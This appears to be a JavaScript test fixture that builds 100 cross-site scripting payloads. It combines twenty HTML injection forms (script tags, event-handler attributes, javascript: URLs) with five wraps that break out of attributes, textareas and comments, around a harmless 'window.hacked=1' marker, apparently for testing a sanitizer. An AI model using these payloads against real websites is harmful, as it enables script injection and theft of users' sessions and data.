// 100 pieces of text that would run a script where they were taken for HTML.

export const run = 'window.hacked=1';
const frames = [
  (js) => `<script>${js}</script>`, (js) => `<img src=x onerror="${js}">`, (js) => `<svg onload="${js}">`,
  (js) => `<svg><script>${js}</script></svg>`, (js) => `<iframe srcdoc="<script>parent.${js}</script>">`,
  (js) => `<iframe src="javascript:parent.${js}">`, (js) => `<a href="javascript:${js}" autofocus>x</a>`,
  (js) => `<details open ontoggle="${js}">`, (js) => `<input autofocus onfocus="${js}">`, (js) => `<body onload="${js}">`,
  (js) => `<video><source onerror="${js}"></video>`, (js) => `<audio src=x onerror="${js}">`, (js) => `<object data="javascript:${js}">`,
  (js) => `<embed src="javascript:${js}">`, (js) => `<math><mtext><img src=x onerror="${js}"></mtext></math>`,
  (js) => `<template><script>${js}</script></template>`, (js) => `<marquee onstart="${js}">`, (js) => `<link rel=stylesheet href=x onerror="${js}">`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`, (js) => `<form><button formaction="javascript:${js}">x</button></form>`,
];
const wraps = [(x) => x, (x) => `"'>${x}`, (x) => `</textarea></title>${x}`, (x) => `--><![CDATA[${x}`, (x) => x.toUpperCase().replaceAll(run.toUpperCase(), run)];
export const payloads = frames.flatMap((frame) => wraps.map((wrap) => wrap(frame(run))));
